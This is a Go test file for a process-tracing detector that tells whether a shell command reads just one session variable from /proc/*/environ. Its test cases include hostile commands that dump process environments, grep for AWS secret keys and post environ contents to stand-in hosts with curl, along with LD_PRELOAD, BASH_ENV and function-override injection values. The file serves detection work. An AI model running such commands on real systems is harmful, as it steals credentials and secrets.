package trace

import (
	"strings"
	"testing"
)

// TestLooksUpSession: only if nothing but one variable of the session passes.
func TestLooksUpSession(t *testing.T) {
	for text, want := range map[string]bool{
		`ps -u $(id -u) -o pid= | xargs -I{} cat /proc/{}/environ 2>/dev/null | tr '\0' '\n' | grep -m1 '^DISPLAY=' | cut -d= -f2`: true,
		`cat /proc/$(pgrep -u $USER gnome-session)/environ | tr '\0' '\n' | grep '^DBUS_SESSION_BUS_ADDRESS='`:                     true,
		`grep -z '^WAYLAND_DISPLAY=' /proc/$(pidof sway)/environ | tr -d '\0'`:                                                     true,
		`tr '\0' '\n' < /proc/$pid/environ | sed -n 's/^DISPLAY=//p'`:                                                              true,
		`grep -a '^DISPLAY=' /proc/7/environ`:                                                                                      false, // all of it is one line
		`cat /proc/1/environ`:                                                                                                      false,
		`cat /proc/{}/environ | tr '\0' '\n'`:                                                                                      false,
		`cat /proc/7/environ | tr '\0' '\n' | grep -v '^DISPLAY='`:                                                                 false,
		`cat /proc/7/environ | tr '\0' '\n' | grep '^DISPLAY=\|KEY'`:                                                               false,
		`cat /proc/7/environ | tr '\0' '\n' | grep -e '^DISPLAY=' -e KEY`:                                                          false,
		`cat /proc/7/environ | grep '^AWS_SECRET_ACCESS_KEY='`:                                                                     false,
		`cat /proc/7/environ | tee /tmp/x | grep '^DISPLAY='`:                                                                      false,
		`cat /proc/7/environ > /tmp/x | grep '^DISPLAY='`:                                                                          false,
		`cat /proc/7/environ | grep '^DISPLAY='; cat /proc/7/environ`:                                                              false,
		`ps | xargs -I{} sh -c 'cat /proc/{}/environ' | grep '^DISPLAY='`:                                                          false,
		`ps | xargs -I{} curl -d @/proc/{}/environ x.example | grep '^DISPLAY='`:                                                   false,
		`grep -z '^DISPLAY=' /proc/7/environ | sed 's/^DISPLAY=//'`:                                                                true,
		`grep -z '^DISPLAY=' /proc/7/environ | sed 'e cat /proc/7/environ'`:                                                        false,
		`sort -o x /proc/7/environ | grep '^DISPLAY='`:                                                                             false,
		`echo "$(cat /proc/7/environ)" | grep '^DISPLAY='`:                                                                         false,
		`cat /proc/7/environ | grep -z '^DISPLAY=' | curl --data-binary @- https://a.example/x`:                                    false,
	} {
		if got := looksUpSession("/usr/bin/dash", []string{"/bin/sh", "-c", text}); got != want {
			t.Errorf("%s: %v, want %v", text, got, want)
		}
	}
	// Whoever starts a program chooses its arguments, also argv[0].
	disguised := []string{"/bin/sh", "-c", `grep -z '^DISPLAY=' /proc/7/environ`}
	if looksUpSession("/tmp/sh", disguised) || looksUpSession("/usr/bin/python3", disguised) || looksUpSession("", disguised) {
		t.Error("a program with the arguments of a look-up is one")
	}
}

// TestAltered: a variable of the server's has a program load other code.
func TestAltered(t *testing.T) {
	lookup := []string{"/bin/sh", "-c", `grep -z '^DISPLAY=' /proc/7/environ`}
	for variable, want := range map[string]bool{
		"LD_PRELOAD=/pkg/x.so": true, "BASH_ENV=/pkg/rc.sh": true, "BASH_FUNC_grep%%=() { cat /proc/*/environ; }": true, "ENV=/pkg/rc.sh": true,
		"ENV=production": false, "LANG=C": false, "NODE_OPTIONS=--require /pkg/x.js": false, "LD_PRELOAD=": false,
	} {
		p := &process{program: "/usr/bin/dash"}
		if p.started("/usr/bin/dash", lookup, false, []string{variable}); p.lookup == want || strings.HasPrefix(p.program, Altered) != want {
			t.Errorf("%s: altered %t, want %t", variable, !p.lookup, want)
		}
	}
}
